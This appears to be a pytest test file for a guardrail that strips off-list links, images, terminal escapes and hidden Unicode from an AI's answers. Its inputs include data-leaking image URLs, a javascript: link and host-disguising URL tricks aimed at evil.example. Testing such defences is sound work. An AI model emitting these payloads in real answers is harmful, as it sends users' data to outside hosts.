"""No answer sends anything anywhere by itself, in any cutting."""

import pytest

from tests.guardrails.test_answers import cuttings, shown


@pytest.fixture
def hosts(configure):
    configure(GUARDRAILS_LINK_HOSTS='["example.com"]')


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("See ![x](https://evil.example/?q=c2VjcmV0) there.", "See [image removed] there."),
        ("See ![x](//evil.example/p) there.", "See [image removed] there."),
        ("![x](https://evil.example/a.png 'title')", "[image removed]"),
        ("![a][b]\n\n[b]: https://evil.example/?q=x\n", "![a][b]\n\n[b]: [link removed]\n"),
        ("Read [the terms](https://evil.example/?d=1).", "Read the terms [link removed]."),
        ("Read [it](javascript:alert(1)).", "Read it [link removed])."),
        ("Go to https://evil.example/a?b=c, now.", "Go to [link removed], now."),
        ("Go to HTTPS://EVIL.example now", "Go to [link removed] now"),
        ("Go to www.evil.example/x now", "Go to [link removed] now"),
        ('<img src="https://evil.example/x.png">', '<img src="[link removed]">'),
        ("<img src=//evil.example/x.png>", "<img src=[link removed]>"),
        ("[a](https://example.com@evil.example/)", "a [link removed]"),
        ("[a](https://example.com\\@evil.example/)", "a [link removed]"),
        ("[a](https://notexample.com/)", "a [link removed]"),
        (
            "[![a](https://evil.example/1)](https://evil.example/2)",
            "[link removed]]([link removed])",
        ),
        ("```\n![x](https://evil.example/?q=1)\n```", "```\n[image removed]\n```"),
        ("```\na\n```\nhttps://evil.example/x", "```\na\n```\n[link removed]"),
        # What some readers take for the end of code.
        ("```\na\n````\nhttps://evil.example/x", "```\na\n````\n[link removed]"),
        ("```\na\n  ```\nhttps://evil.example/x", "```\na\n  ```\n[link removed]"),
        ("```\n```js\nhttps://evil.example/x", "```\n```js\n[link removed]"),
        ("x ```\nhttps://evil.example/x", "x ```\n[link removed]"),
    ],
)
@pytest.mark.usefixtures("hosts")
def test_what_leads_elsewhere_is_gone(answer, expected):
    for pieces in cuttings(answer):
        assert shown(answer, pieces) == expected


@pytest.mark.parametrize(
    "answer",
    [
        "See [the page](https://example.com/a?b=c) and https://docs.example.com/x.",
        "![logo](https://example.com/logo.png) ![own](/static/logo.png)",
        "Read [this](/documents/1), [that](#part) or [write](mailto:ada@example.com).",
        "```python\nrequests.get('https://api.elsewhere.example/v1')\n```\nDone.",
        "A list: [ ] open, [x] done, a[0](1) and f(x) // comment",
        "Either/or, 1/2, hot, fish and www",
        "Ends with http",
        "Ends with [",
    ],
)
@pytest.mark.usefixtures("hosts")
def test_other_text_stays(answer):
    for pieces in cuttings(answer):
        assert shown(answer, pieces) == answer


def test_without_a_list_nothing_leads_away():
    text = "See https://example.com/x and ![x](https://example.com/y)."

    assert shown(text, [text]) == "See [link removed] and [image removed]."


def test_a_star_allows_links_and_no_images(configure):
    configure(GUARDRAILS_LINK_HOSTS='["*"]')
    text = "See https://example.com/x and ![x](https://example.com/y)."

    assert shown(text, [text]) == "See https://example.com/x and [image removed]."


def test_what_steers_a_terminal_is_taken_out():
    text = "Red \x1b[31mtext\x1b[0m, bell\x07, hidden\u202e and \U000e0041\U000e0042.\n\tDone"

    for pieces in cuttings(text):
        assert shown(text, pieces) == "Red [31mtext[0m, bell, hidden and .\n\tDone"
